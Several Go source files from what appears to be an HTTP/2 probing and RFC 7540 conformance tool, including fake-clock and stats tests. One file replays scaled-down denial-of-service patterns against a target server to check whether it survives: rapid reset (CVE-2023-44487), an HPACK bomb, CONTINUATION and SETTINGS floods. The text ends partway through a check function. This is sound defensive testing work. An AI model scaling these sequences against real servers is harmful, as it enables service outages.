		func(ctx context.Context, tg Target) (any, error) { return nil, nil },
		Options{Timeout: time.Second})
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	if !res.Stats.Consistent() || res.Stats.Succeeded != 1 {
		t.Fatalf("stats = %+v", res.Stats)
	}
}
