package scan

import (
	"context"
	"sync"
	"time"
)

// Clock abstracts the engine's sense of time so backoff and latency
// accounting can be driven deterministically in tests. Production code uses
// SystemClock; unit tests inject a FakeClock and never sleep for real.
type Clock interface {
	// Now returns the current time.
	Now() time.Time
	// Sleep blocks for d or until ctx is done, returning ctx.Err() in the
	// latter case and nil otherwise.
	Sleep(ctx context.Context, d time.Duration) error
}

// SystemClock is the real-time Clock used outside tests.
var SystemClock Clock = systemClock{}

type systemClock struct{}

// Now implements Clock.
func (systemClock) Now() time.Time { return time.Now() }

// Sleep implements Clock.
func (systemClock) Sleep(ctx context.Context, d time.Duration) error {
	if d <= 0 {
		return ctx.Err()
	}
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-t.C:
		return nil
	case <-ctx.Done():
		return ctx.Err()
	}
}

// FakeClock is a deterministic Clock for tests. Sleep never blocks: it
// advances the fake time by the requested duration and records it, so a test
// can assert exactly which backoff delays the engine asked for without any
// real waiting.
type FakeClock struct {
	mu     sync.Mutex
	now    time.Time
	sleeps []time.Duration
}

// NewFakeClock returns a FakeClock starting at start.
func NewFakeClock(start time.Time) *FakeClock {
	return &FakeClock{now: start}
}

// Now implements Clock.
func (c *FakeClock) Now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.now
}

// Sleep implements Clock: it advances the clock by d immediately.
func (c *FakeClock) Sleep(ctx context.Context, d time.Duration) error {
	if err := ctx.Err(); err != nil {
		return err
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	if d > 0 {
		c.now = c.now.Add(d)
	}
	c.sleeps = append(c.sleeps, d)
	return nil
}

// Advance moves the fake time forward without recording a sleep.
func (c *FakeClock) Advance(d time.Duration) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.now = c.now.Add(d)
}

// Sleeps returns a copy of every duration passed to Sleep, in order.
func (c *FakeClock) Sleeps() []time.Duration {
	c.mu.Lock()
	defer c.mu.Unlock()
	return append([]time.Duration(nil), c.sleeps...)
}
