package scan

import (
	"encoding/json"
	"strings"
	"testing"
	"time"
)

func TestLatencyBucket(t *testing.T) {
	cases := []struct {
		d    time.Duration
		want int
	}{
		{0, 0},
		{500 * time.Microsecond, 0},
		{time.Millisecond, 1},
		{3 * time.Millisecond, 2},
		{4 * time.Millisecond, 3},
		{1000 * time.Hour, latencyBuckets - 1},
	}
	for _, tc := range cases {
		if got := latencyBucket(tc.d); got != tc.want {
			t.Errorf("latencyBucket(%v) = %d, want %d", tc.d, got, tc.want)
		}
	}
}

func TestLatencySnapshot(t *testing.T) {
	c := newCounters()
	for i := 0; i < 100; i++ {
		c.observeLatency(3 * time.Millisecond)
	}
	ls := c.Snapshot().Latency
	if ls.Count != 100 || ls.Min != 3*time.Millisecond || ls.Max != 3*time.Millisecond ||
		ls.Mean != 3*time.Millisecond {
		t.Fatalf("latency summary = %+v, want count 100 min/mean/max 3ms", ls)
	}
	// All samples fall in bucket [2ms,4ms); the quantile estimate is the
	// geometric midpoint clamped into [Min, Max].
	for _, q := range []time.Duration{ls.P50, ls.P90, ls.P99} {
		if q < ls.Min || q > ls.Max {
			t.Errorf("quantile %v outside [%v, %v]", q, ls.Min, ls.Max)
		}
	}
}

func TestLatencySnapshotEmpty(t *testing.T) {
	if ls := newCounters().Snapshot().Latency; ls != (LatencyStats{}) {
		t.Errorf("empty latency summary = %+v, want zero value", ls)
	}
}

func TestLatencyQuantilesOrdered(t *testing.T) {
	c := newCounters()
	for _, d := range []time.Duration{
		time.Millisecond, 2 * time.Millisecond, 5 * time.Millisecond,
		20 * time.Millisecond, 100 * time.Millisecond, 2 * time.Second,
	} {
		c.observeLatency(d)
	}
	ls := c.Snapshot().Latency
	if ls.P50 > ls.P90 || ls.P90 > ls.P99 {
		t.Errorf("quantiles out of order: p50 %v p90 %v p99 %v", ls.P50, ls.P90, ls.P99)
	}
	if ls.P50 < ls.Min || ls.P99 > ls.Max {
		t.Errorf("quantiles outside [min, max]: %+v", ls)
	}
}

func TestStatsConsistent(t *testing.T) {
	ok := Stats{Attempted: 10, Succeeded: 7, Failed: 2, Canceled: 1}
	if !ok.Consistent() {
		t.Errorf("%+v reported inconsistent", ok)
	}
	bad := Stats{Attempted: 10, Succeeded: 7}
	if bad.Consistent() {
		t.Errorf("%+v reported consistent", bad)
	}
}

func TestStatsString(t *testing.T) {
	s := Stats{
		Attempted: 10, Succeeded: 7, Failed: 2, Canceled: 1,
		Retries: 3, InFlight: 4,
		FailedByKind: map[string]int64{"dial": 1, "timeout": 1},
		Latency:      LatencyStats{Count: 10, P50: 12 * time.Millisecond, P99: 90 * time.Millisecond},
	}
	got := s.String()
	for _, want := range []string{
		"scan: 10 done (ok 7, fail 2, canceled 1)",
		"3 retries",
		"4 in flight",
		"dial 1, timeout 1", // kind order is the ErrorKind order, not map order
		"latency p50 12ms p99 90ms",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("String() = %q, missing %q", got, want)
		}
	}
}

// TestStatsJSONRoundTrip guards the persisted trailer shape.
func TestStatsJSONRoundTrip(t *testing.T) {
	s := Stats{
		Attempted: 5, Succeeded: 4, Failed: 1,
		Retries: 2, Attempts: 7,
		FailedByKind: map[string]int64{"tls": 1},
		Latency:      LatencyStats{Count: 5, Min: time.Millisecond, Max: time.Second},
	}
	data, err := json.Marshal(s)
	if err != nil {
		t.Fatal(err)
	}
	for _, key := range []string{`"attempted"`, `"failedByKind"`, `"latency"`} {
		if !strings.Contains(string(data), key) {
			t.Errorf("JSON %s missing key %s", data, key)
		}
	}
	var back Stats
	if err := json.Unmarshal(data, &back); err != nil {
		t.Fatal(err)
	}
	if back.Attempted != s.Attempted || back.FailedByKind["tls"] != 1 || back.Latency.Max != time.Second {
		t.Errorf("round trip changed stats: %+v -> %+v", s, back)
	}
}
