package conformance

// Attack-resilience checks: unlike the RFC-conformance checks, these replay
// the adversarial shapes from internal/attack in miniature and verify the
// server stays inside safe outcomes — keep serving, or refuse with an
// explicit connection error. A server may legitimately pick either side
// (GOAWAY-or-survive); what it may never do is wedge or buffer without
// bound. They run against undefended servers too: the engine's protocol
// bounds (the CONTINUATION cap, the HPACK list-size guard) are themselves
// requirements here.

import (
	"fmt"

	"h2scope/internal/attack"
	"h2scope/internal/frame"
	"h2scope/internal/h2conn"
)

// attackChecks returns the attack-resilience checks appended to Suite.
func attackChecks() []Check {
	return []Check{
		{
			ID:          "attack/rapid-reset",
			Section:     "5.1",
			Description: "HEADERS+RST_STREAM churn (CVE-2023-44487 shape) is survived or refused with GOAWAY",
			Run:         checkRapidResetGoAwayOrSurvive,
		},
		{
			ID:          "attack/hpack-bomb",
			Section:     "4.3",
			Description: "an amplifying header block (HPACK bomb) draws GOAWAY(COMPRESSION_ERROR)",
			Run:         checkHPACKBombCompressionError,
		},
		{
			ID:          "attack/continuation-bound",
			Section:     "6.10",
			Description: "an unterminated CONTINUATION sequence is bounded, not buffered without limit",
			Run:         checkContinuationBounded,
		},
		{
			ID:          "attack/settings-flood",
			Section:     "6.5",
			Description: "a burst of SETTINGS frames is survived or refused with GOAWAY",
			Run:         checkSettingsFloodSurvive,
		},
		{
			ID:          "attack/slow-drip",
			Section:     "6.1",
			Description: "a stalled request body does not block service on other streams",
			Run:         checkSlowDripIsolation,
		},
		{
			ID:          "attack/zero-window",
			Section:     "6.9",
			Description: "a zero-window receiver pinning responses leaves the connection responsive",
			Run:         checkZeroWindowResponsive,
		},
	}
}

func checkRapidResetGoAwayOrSurvive(env *Env) (Verdict, string) {
	c, err := env.connect(h2conn.DefaultOptions())
	if err != nil {
		return Skip, err.Error()
	}
	defer func() {
		_ = c.Close()
	}()
	if _, err := c.WaitSettings(env.Timeout); err != nil {
		return Skip, err.Error()
	}
	req := h2conn.Request{Authority: env.Authority, Path: env.SmallPath}
	for i := 0; i < 100; i++ {
		id, err := c.OpenStream(req)
		if err != nil {
			break // the server closed on us mid-churn; GOAWAY check below
		}
		if err := c.WriteRSTStream(id, frame.ErrCodeCancel); err != nil {
			break
		}
	}
	if env.fetchOK(c) {
		return Pass, ""
	}
	if ok, code := env.waitGoAway(c, 0, true); ok {
		return Pass, fmt.Sprintf("refused with GOAWAY(%v)", code)
	}
	return Fail, "connection unusable after reset churn with no GOAWAY"
}

func checkHPACKBombCompressionError(env *Env) (Verdict, string) {
	c, err := env.connect(h2conn.DefaultOptions())
	if err != nil {
		return Skip, err.Error()
	}
	defer func() {
		_ = c.Close()
	}()
	if _, err := c.WaitSettings(env.Timeout); err != nil {
		return Skip, err.Error()
	}
	block := attack.HPACKBombBlock(3000, 12000)
	if err := c.WriteHeadersRaw(c.NextStreamID(), block, true, true); err != nil {
		return Skip, err.Error()
	}
	ok, code := env.waitGoAway(c, frame.ErrCodeCompression, false)
	if ok {
		return Pass, ""
	}
	if code != 0 {
		return Fail, fmt.Sprintf("GOAWAY code %v, want COMPRESSION_ERROR", code)
	}
	return Fail, "no GOAWAY for an amplifying header block"
}

func checkContinuationBounded(env *Env) (Verdict, string) {
	// No automatic acks: RFC 7540 section 6.10 forbids any frame (even a
	// SETTINGS ACK) between HEADERS and the end of its header block.
	c, err := env.connect(h2conn.Options{})
	if err != nil {
		return Skip, err.Error()
	}
	defer func() {
		_ = c.Close()
	}()
	if _, err := c.WaitSettings(env.Timeout); err != nil {
		return Skip, err.Error()
	}
	frag := make([]byte, 1024)
	id := c.NextStreamID()
	if err := c.WriteHeadersRaw(id, frag, false, false); err != nil {
		return Skip, err.Error()
	}
	// Half a megabyte of unterminated header block: any bounded server has
	// reacted well before this point.
	for written := len(frag); written < 512<<10; written += len(frag) {
		if err := c.WriteRawFrame(frame.TypeContinuation, 0, id, frag); err != nil {
			return Pass, fmt.Sprintf("writes refused after %d KiB", written>>10)
		}
	}
	if ok, code := env.waitGoAway(c, 0, true); ok {
		return Pass, fmt.Sprintf("refused with GOAWAY(%v)", code)
	}
	if err := c.ReadErr(); err != nil {
		return Pass, "connection closed"
	}
	return Fail, "server accepted 512 KiB of unterminated header block without reacting"
}

func checkSettingsFloodSurvive(env *Env) (Verdict, string) {
	c, err := env.connect(h2conn.DefaultOptions())
	if err != nil {
		return Skip, err.Error()
	}
	defer func() {
		_ = c.Close()
	}()
	if _, err := c.WaitSettings(env.Timeout); err != nil {
		return Skip, err.Error()
	}
	for i := 0; i < 200; i++ {
		if err := c.WriteSettings(frame.Setting{
			ID:  frame.SettingInitialWindowSize,
			Val: frame.DefaultInitialWindowSize,
		}); err != nil {
			break // refused mid-burst; GOAWAY check below
		}
	}
	if env.fetchOK(c) {
		return Pass, ""
	}
	if ok, code := env.waitGoAway(c, 0, true); ok {
		return Pass, fmt.Sprintf("refused with GOAWAY(%v)", code)
	}
	return Fail, "unresponsive after SETTINGS burst with no GOAWAY"
}

func checkSlowDripIsolation(env *Env) (Verdict, string) {
	c, err := env.connect(h2conn.DefaultOptions())
	if err != nil {
		return Skip, err.Error()
	}
	defer func() {
		_ = c.Close()
	}()
	if _, err := c.WaitSettings(env.Timeout); err != nil {
		return Skip, err.Error()
	}
	id, err := c.OpenStreamBody(h2conn.Request{Method: "POST", Authority: env.Authority, Path: env.SmallPath})
	if err != nil {
		return Skip, err.Error()
	}
	if err := c.WriteData(id, false, []byte{'.'}); err != nil {
		return Skip, err.Error()
	}
	// With one stream dripping, a full fetch on a second stream must work.
	if !env.fetchOK(c) {
		return Fail, "a stalled request body blocked service on other streams"
	}
	_ = c.WriteData(id, true, []byte{'.'})
	return Pass, ""
}

func checkZeroWindowResponsive(env *Env) (Verdict, string) {
	opts := h2conn.DefaultOptions()
	opts.Settings = []frame.Setting{{ID: frame.SettingInitialWindowSize, Val: 0}}
	c, err := env.connect(opts)
	if err != nil {
		return Skip, err.Error()
	}
	defer func() {
		_ = c.Close()
	}()
	if _, err := c.WaitSettings(env.Timeout); err != nil {
		return Skip, err.Error()
	}
	// The response to this can never be delivered: the stream window is zero
	// and we never open it.
	if _, err := c.OpenStream(h2conn.Request{Authority: env.Authority, Path: env.LargePath}); err != nil {
		return Skip, err.Error()
	}
	if _, err := c.Ping([8]byte{'z', 'w', 'p', 'r', 'o', 'b', 'e', '!'}, env.Timeout); err != nil {
		return Fail, "PING unanswered while responses are window-pinned"
	}
	return Pass, ""
}
