// Package conformance is an h2spec-style RFC 7540 check suite built on the
// same probing client as H2Scope. Where package core reproduces the paper's
// measurement battery (feature characterization), this package packages the
// generic protocol-correctness checks — the "examine how HTTP/2 is realized"
// future-work direction — as named, independently runnable checks with a
// uniform verdict vocabulary.
//
// Each check opens its own connection, performs one provocation, and
// classifies the outcome as Pass, Fail, or Skip, citing the RFC section it
// covers.
package conformance

import (
	"fmt"
	"sort"
	"strings"
	"time"

	"h2scope/internal/core"
	"h2scope/internal/frame"
	"h2scope/internal/h2conn"
	"h2scope/internal/stats"
)

// Verdict is the outcome of one check.
type Verdict int

// Check outcomes.
const (
	// Pass means the server behaved as the RFC requires.
	Pass Verdict = iota + 1
	// Fail means the server violated the cited requirement.
	Fail
	// Skip means the check could not run (e.g. the target died earlier).
	Skip
)

// String renders the verdict.
func (v Verdict) String() string {
	switch v {
	case Pass:
		return "PASS"
	case Fail:
		return "FAIL"
	case Skip:
		return "SKIP"
	default:
		return "?"
	}
}

// Result is one executed check.
type Result struct {
	// ID is the stable check identifier, e.g. "6.9/zero-increment-stream".
	ID string
	// Section is the RFC 7540 section the check covers.
	Section string
	// Description states the requirement.
	Description string
	// Verdict is the outcome.
	Verdict Verdict
	// Detail explains a Fail or Skip.
	Detail string
}

// Check is one runnable conformance check.
type Check struct {
	// ID is the stable identifier.
	ID string
	// Section is the RFC 7540 section covered.
	Section string
	// Description states the requirement being verified.
	Description string
	// Run executes the check over a fresh connection factory.
	Run func(env *Env) (Verdict, string)
}

// Env gives checks connection-level access to the target.
type Env struct {
	// Dialer opens transport connections.
	Dialer core.Dialer
	// Authority is the :authority for requests.
	Authority string
	// SmallPath and LargePath are resources known to exist on the target.
	SmallPath string
	LargePath string
	// Timeout bounds waits; ReactionWindow bounds ignore-detection.
	Timeout        time.Duration
	ReactionWindow time.Duration
	// TLSDialer opens raw transport connections to the target's TLS
	// port, for checks that speak the record layer themselves; nil when
	// the target has no TLS endpoint (those checks then Skip).
	TLSDialer core.Dialer
	// TLSServerName is the SNI offered on TLSDialer connections.
	TLSServerName string
	// FingerprintAdaptive declares that the target intentionally re-tunes
	// SETTINGS per passive client fingerprint, exempting it from the
	// fingerprint-stability requirement.
	FingerprintAdaptive bool
}

// connect opens an HTTP/2 connection with opts.
func (e *Env) connect(opts h2conn.Options) (*h2conn.Conn, error) {
	nc, err := e.Dialer.Dial()
	if err != nil {
		return nil, fmt.Errorf("conformance: dial: %w", err)
	}
	c, err := h2conn.Dial(nc, opts)
	if err != nil {
		_ = nc.Close()
		return nil, err
	}
	return c, nil
}

// fetchOK fetches SmallPath and reports whether a 200 arrived — the
// liveness primitive most checks end with.
func (e *Env) fetchOK(c *h2conn.Conn) bool {
	resp, err := c.FetchBody(h2conn.Request{Authority: e.Authority, Path: e.SmallPath}, e.Timeout)
	return err == nil && resp.Status() == "200"
}

// waitGoAway reports whether a GOAWAY (optionally with a required error
// code) arrives within the reaction window.
func (e *Env) waitGoAway(c *h2conn.Conn, code frame.ErrCode, any bool) (bool, frame.ErrCode) {
	events, _ := c.WaitFor(e.ReactionWindow, func(evs []h2conn.Event) bool {
		for _, ev := range evs {
			if ev.Type == frame.TypeGoAway {
				return true
			}
		}
		return false
	})
	for _, ev := range events {
		if ev.Type == frame.TypeGoAway {
			return any || ev.ErrCode == code, ev.ErrCode
		}
	}
	return false, 0
}

// Suite returns the built-in checks, ordered by RFC section.
func Suite() []Check {
	checks := []Check{
		{
			ID:          "3.5/settings-first",
			Section:     "3.5",
			Description: "server sends SETTINGS as its connection preface",
			Run:         checkSettingsFirst,
		},
		{
			ID:          "4.1/unknown-frame-type",
			Section:     "4.1",
			Description: "frames of unknown type are ignored and discarded",
			Run:         checkUnknownFrameIgnored,
		},
		{
			ID:          "5.1/ping-on-stream",
			Section:     "6.7",
			Description: "PING on a nonzero stream is a connection error",
			Run:         checkPingOnStream,
		},
		{
			ID:          "6.5/settings-ack",
			Section:     "6.5.3",
			Description: "client SETTINGS are acknowledged",
			Run:         checkSettingsAcked,
		},
		{
			ID:          "6.5/unknown-setting",
			Section:     "6.5.2",
			Description: "unknown SETTINGS identifiers are ignored",
			Run:         checkUnknownSettingIgnored,
		},
		{
			ID:          "6.5/enable-push-invalid",
			Section:     "6.5.2",
			Description: "SETTINGS_ENABLE_PUSH outside {0,1} is a protocol error",
			Run:         checkEnablePushInvalid,
		},
		{
			ID:          "6.7/ping-ack-payload",
			Section:     "6.7",
			Description: "PING is acknowledged with an identical 8-byte payload",
			Run:         checkPingAckPayload,
		},
		{
			ID:          "6.9/window-overflow-conn",
			Section:     "6.9.1",
			Description: "connection window above 2^31-1 draws GOAWAY(FLOW_CONTROL_ERROR)",
			Run:         checkWindowOverflowConn,
		},
		{
			ID:          "6.9/data-respects-window",
			Section:     "6.9.1",
			Description: "DATA frames never exceed the advertised stream window",
			Run:         checkDataRespectsWindow,
		},
		{
			ID:          "6.10/interleaved-continuation",
			Section:     "6.10",
			Description: "a non-CONTINUATION frame inside a header block is a connection error",
			Run:         checkInterleavedContinuation,
		},
		{
			ID:          "5.1.1/even-stream-id",
			Section:     "5.1.1",
			Description: "client use of even stream IDs is a connection error",
			Run:         checkEvenStreamID,
		},
		{
			ID:          "4.3/header-decode-failure",
			Section:     "4.3",
			Description: "an undecodable header block is a COMPRESSION_ERROR connection error",
			Run:         checkHeaderDecodeFailure,
		},
		{
			ID:          "6.2/headers-on-stream-zero",
			Section:     "6.2",
			Description: "HEADERS on stream 0 is a connection error",
			Run:         checkHeadersOnStreamZero,
		},
		{
			ID:          "6.5/settings-bad-length",
			Section:     "6.5",
			Description: "a SETTINGS payload not a multiple of 6 octets is FRAME_SIZE_ERROR",
			Run:         checkSettingsBadLength,
		},
		{
			ID:          "6.7/ping-bad-length",
			Section:     "6.7",
			Description: "a PING payload other than 8 octets is FRAME_SIZE_ERROR",
			Run:         checkPingBadLength,
		},
		{
			ID:          "6.5/max-frame-size-invalid",
			Section:     "6.5.2",
			Description: "SETTINGS_MAX_FRAME_SIZE below 2^14 is a protocol error",
			Run:         checkMaxFrameSizeInvalid,
		},
		{
			ID:          "4.2/data-frame-size-limit",
			Section:     "4.2",
			Description: "DATA frames never exceed the advertised SETTINGS_MAX_FRAME_SIZE",
			Run:         checkDataFrameSizeLimit,
		},
		{
			ID:          "4.1/reserved-bit-ignored",
			Section:     "4.1",
			Description: "the reserved bit of the frame header is ignored on receipt",
			Run:         checkReservedBitIgnored,
		},
		{
			ID:          "4.1/undefined-flags-ignored",
			Section:     "4.1",
			Description: "flags with no defined semantics for a frame type are ignored",
			Run:         checkUndefinedFlagsIgnored,
		},
		{
			ID:          "6.1/data-padding-exceeds-payload",
			Section:     "6.1",
			Description: "DATA padding as long as or longer than the payload is PROTOCOL_ERROR",
			Run:         checkDataPaddingExceedsPayload,
		},
		{
			ID:          "6.4/rst-stream-bad-length",
			Section:     "6.4",
			Description: "an RST_STREAM payload other than 4 octets is FRAME_SIZE_ERROR",
			Run:         checkRSTStreamBadLength,
		},
		{
			ID:          "6.5/settings-ack-with-payload",
			Section:     "6.5.3",
			Description: "a SETTINGS ACK carrying a payload is FRAME_SIZE_ERROR",
			Run:         checkSettingsAckWithPayload,
		},
		{
			ID:          "6.9/window-update-bad-length",
			Section:     "6.9",
			Description: "a WINDOW_UPDATE payload other than 4 octets is FRAME_SIZE_ERROR",
			Run:         checkWindowUpdateBadLength,
		},
	}
	checks = append(checks, attackChecks()...)
	checks = append(checks, fingerprintChecks()...)
	sort.Slice(checks, func(i, j int) bool { return checks[i].ID < checks[j].ID })
	return checks
}

// RunSuite executes every check in the suite against env.
func RunSuite(env *Env) []Result {
	if env.Timeout == 0 {
		env.Timeout = 5 * time.Second
	}
	if env.ReactionWindow == 0 {
		env.ReactionWindow = 150 * time.Millisecond
	}
	if env.SmallPath == "" {
		env.SmallPath = "/about.html"
	}
	if env.LargePath == "" {
		env.LargePath = "/large/1"
	}
	checks := Suite()
	out := make([]Result, 0, len(checks))
	for _, ch := range checks {
		verdict, detail := ch.Run(env)
		out = append(out, Result{
			ID:          ch.ID,
			Section:     ch.Section,
			Description: ch.Description,
			Verdict:     verdict,
			Detail:      detail,
		})
	}
	return out
}

// Render formats results as a report table.
func Render(results []Result) string {
	rows := make([][]string, 0, len(results))
	for _, r := range results {
		detail := r.Detail
		if detail == "" {
			detail = "-"
		}
		rows = append(rows, []string{r.ID, r.Verdict.String(), r.Description, detail})
	}
	return stats.FormatTable([]string{"Check", "Verdict", "Requirement", "Detail"}, rows)
}

// Passed counts passing results.
func Passed(results []Result) int {
	n := 0
	for _, r := range results {
		if r.Verdict == Pass {
			n++
		}
	}
	return n
}

// Failures returns the IDs of failing checks.
func Failures(results []Result) []string {
	var out []string
	for _, r := range results {
		if r.Verdict == Fail {
			out = append(out, r.ID)
		}
	}
	return out
}

// --- the checks ---

func checkSettingsFirst(env *Env) (Verdict, string) {
	c, err := env.connect(h2conn.DefaultOptions())
	if err != nil {
		return Skip, err.Error()
	}
	defer closeConn(c)
	events, err := c.WaitFor(env.Timeout, func(evs []h2conn.Event) bool { return len(evs) > 0 })
	if err != nil || len(events) == 0 {
		return Fail, "no frames from server"
	}
	first := events[0]
	if first.Type != frame.TypeSettings || first.IsAck() {
		return Fail, fmt.Sprintf("first frame was %v", first.Type)
	}
	return Pass, ""
}

func checkUnknownFrameIgnored(env *Env) (Verdict, string) {
	c, err := env.connect(h2conn.DefaultOptions())
	if err != nil {
		return Skip, err.Error()
	}
	defer closeConn(c)
	if err := c.WriteUnknownFrame(0xEE, 0x3, []byte{1, 2, 3, 4}); err != nil {
		return Skip, err.Error()
	}
	if !env.fetchOK(c) {
		return Fail, "connection unusable after unknown frame"
	}
	return Pass, ""
}

func checkPingOnStream(env *Env) (Verdict, string) {
	c, err := env.connect(h2conn.DefaultOptions())
	if err != nil {
		return Skip, err.Error()
	}
	defer closeConn(c)
	// A PING frame carrying a nonzero stream ID (stream 3).
	if err := c.WriteRawFrame(frame.TypePing, 0, 3, make([]byte, 8)); err != nil {
		return Skip, err.Error()
	}
	ok, code := env.waitGoAway(c, frame.ErrCodeProtocol, false)
	if !ok {
		if code != 0 {
			return Fail, fmt.Sprintf("GOAWAY code %v, want PROTOCOL_ERROR", code)
		}
		return Fail, "no GOAWAY"
	}
	return Pass, ""
}

func checkSettingsAcked(env *Env) (Verdict, string) {
	c, err := env.connect(h2conn.DefaultOptions())
	if err != nil {
		return Skip, err.Error()
	}
	defer closeConn(c)
	events, err := c.WaitFor(env.Timeout, func(evs []h2conn.Event) bool {
		for _, e := range evs {
			if e.Type == frame.TypeSettings && e.IsAck() {
				return true
			}
		}
		return false
	})
	_ = events
	if err != nil {
		return Fail, "no SETTINGS ACK"
	}
	return Pass, ""
}

func checkUnknownSettingIgnored(env *Env) (Verdict, string) {
	opts := h2conn.DefaultOptions()
	opts.Settings = []frame.Setting{{ID: frame.SettingID(0xABCD), Val: 42}}
	c, err := env.connect(opts)
	if err != nil {
		return Skip, err.Error()
	}
	defer closeConn(c)
	if !env.fetchOK(c) {
		return Fail, "connection unusable after unknown setting"
	}
	return Pass, ""
}

func checkEnablePushInvalid(env *Env) (Verdict, string) {
	opts := h2conn.DefaultOptions()
	opts.Settings = []frame.Setting{{ID: frame.SettingEnablePush, Val: 7}}
	c, err := env.connect(opts)
	if err != nil {
		return Skip, err.Error()
	}
	defer closeConn(c)
	ok, code := env.waitGoAway(c, frame.ErrCodeProtocol, false)
	if !ok {
		if code != 0 {
			return Fail, fmt.Sprintf("GOAWAY code %v, want PROTOCOL_ERROR", code)
		}
		return Fail, "invalid ENABLE_PUSH accepted"
	}
	return Pass, ""
}

func checkPingAckPayload(env *Env) (Verdict, string) {
	c, err := env.connect(h2conn.DefaultOptions())
	if err != nil {
		return Skip, err.Error()
	}
	defer closeConn(c)
	payload := [8]byte{0xde, 0xad, 0xbe, 0xef, 1, 2, 3, 4}
	rtt, err := c.Ping(payload, env.ReactionWindow)
	if err != nil {
		return Fail, "no matching PING ACK"
	}
	if rtt <= 0 {
		return Fail, "non-positive RTT"
	}
	return Pass, ""
}

func checkWindowOverflowConn(env *Env) (Verdict, string) {
	c, err := env.connect(h2conn.DefaultOptions())
	if err != nil {
		return Skip, err.Error()
	}
	defer closeConn(c)
	if _, err := c.OpenStream(h2conn.Request{Authority: env.Authority, Path: env.SmallPath}); err != nil {
		return Skip, err.Error()
	}
	if err := c.WriteWindowUpdate(0, frame.MaxWindowSize); err != nil {
		return Skip, err.Error()
	}
	if err := c.WriteWindowUpdate(0, frame.MaxWindowSize); err != nil {
		return Skip, err.Error()
	}
	ok, code := env.waitGoAway(c, frame.ErrCodeFlowControl, false)
	if !ok {
		if code != 0 {
			return Fail, fmt.Sprintf("GOAWAY code %v, want FLOW_CONTROL_ERROR", code)
		}
		return Fail, "window overflow accepted"
	}
	return Pass, ""
}

func checkDataRespectsWindow(env *Env) (Verdict, string) {
	opts := h2conn.Options{
		Settings:        []frame.Setting{{ID: frame.SettingInitialWindowSize, Val: 100}},
		AutoSettingsAck: true,
		AutoPingAck:     true,
	}
	c, err := env.connect(opts)
	if err != nil {
		return Skip, err.Error()
	}
	defer closeConn(c)
	id, err := c.OpenStream(h2conn.Request{Authority: env.Authority, Path: env.LargePath})
	if err != nil {
		return Skip, err.Error()
	}
	events, _ := c.WaitFor(env.ReactionWindow, func(evs []h2conn.Event) bool {
		total := 0
		for _, e := range evs {
			if e.Type == frame.TypeData && e.StreamID == id {
				total += len(e.Data)
			}
		}
		return total > 100
	})
	total := 0
	for _, e := range events {
		if e.Type == frame.TypeData && e.StreamID == id {
			total += len(e.Data)
		}
	}
	if total > 100 {
		return Fail, fmt.Sprintf("server sent %d bytes against a 100-byte window", total)
	}
	return Pass, ""
}

func checkInterleavedContinuation(env *Env) (Verdict, string) {
	c, err := env.connect(h2conn.DefaultOptions())
	if err != nil {
		return Skip, err.Error()
	}
	defer closeConn(c)
	id := c.NextStreamID()
	// A HEADERS frame without END_HEADERS followed by a PING.
	if err := c.WriteHeadersRaw(id, []byte{0x82}, true, false); err != nil {
		return Skip, err.Error()
	}
	if err := c.WritePing([8]byte{9}); err != nil {
		return Skip, err.Error()
	}
	ok, code := env.waitGoAway(c, frame.ErrCodeProtocol, false)
	if !ok {
		if code != 0 {
			return Fail, fmt.Sprintf("GOAWAY code %v, want PROTOCOL_ERROR", code)
		}
		return Fail, "interleaved frame tolerated mid header block"
	}
	return Pass, ""
}

func checkEvenStreamID(env *Env) (Verdict, string) {
	c, err := env.connect(h2conn.DefaultOptions())
	if err != nil {
		return Skip, err.Error()
	}
	defer closeConn(c)
	if err := c.OpenStreamID(2, h2conn.Request{Authority: env.Authority, Path: env.SmallPath}); err != nil {
		return Skip, err.Error()
	}
	ok, code := env.waitGoAway(c, frame.ErrCodeProtocol, false)
	if !ok {
		if code != 0 {
			return Fail, fmt.Sprintf("GOAWAY code %v, want PROTOCOL_ERROR", code)
		}
		return Fail, "even client stream ID accepted"
	}
	return Pass, ""
}

func checkHeaderDecodeFailure(env *Env) (Verdict, string) {
	c, err := env.connect(h2conn.DefaultOptions())
	if err != nil {
		return Skip, err.Error()
	}
	defer closeConn(c)
	id := c.NextStreamID()
	// Indexed reference far beyond both tables.
	if err := c.WriteHeadersRaw(id, []byte{0xff, 0x7f}, true, true); err != nil {
		return Skip, err.Error()
	}
	ok, code := env.waitGoAway(c, frame.ErrCodeCompression, false)
	if !ok {
		if code != 0 {
			return Fail, fmt.Sprintf("GOAWAY code %v, want COMPRESSION_ERROR", code)
		}
		return Fail, "undecodable header block tolerated"
	}
	return Pass, ""
}

func checkHeadersOnStreamZero(env *Env) (Verdict, string) {
	c, err := env.connect(h2conn.DefaultOptions())
	if err != nil {
		return Skip, err.Error()
	}
	defer closeConn(c)
	if err := c.WriteRawFrame(frame.TypeHeaders, frame.FlagEndHeaders|frame.FlagEndStream, 0, []byte{0x82}); err != nil {
		return Skip, err.Error()
	}
	ok, code := env.waitGoAway(c, frame.ErrCodeProtocol, false)
	if !ok {
		if code != 0 {
			return Fail, fmt.Sprintf("GOAWAY code %v, want PROTOCOL_ERROR", code)
		}
		return Fail, "HEADERS on stream 0 tolerated"
	}
	return Pass, ""
}

func checkSettingsBadLength(env *Env) (Verdict, string) {
	c, err := env.connect(h2conn.DefaultOptions())
	if err != nil {
		return Skip, err.Error()
	}
	defer closeConn(c)
	// Four bytes: not a multiple of six.
	if err := c.WriteRawFrame(frame.TypeSettings, 0, 0, []byte{0, 3, 0, 0}); err != nil {
		return Skip, err.Error()
	}
	ok, code := env.waitGoAway(c, frame.ErrCodeFrameSize, false)
	if !ok {
		if code != 0 {
			return Fail, fmt.Sprintf("GOAWAY code %v, want FRAME_SIZE_ERROR", code)
		}
		return Fail, "truncated SETTINGS tolerated"
	}
	return Pass, ""
}

func checkPingBadLength(env *Env) (Verdict, string) {
	c, err := env.connect(h2conn.DefaultOptions())
	if err != nil {
		return Skip, err.Error()
	}
	defer closeConn(c)
	if err := c.WriteRawFrame(frame.TypePing, 0, 0, []byte{1, 2, 3}); err != nil {
		return Skip, err.Error()
	}
	ok, code := env.waitGoAway(c, frame.ErrCodeFrameSize, false)
	if !ok {
		if code != 0 {
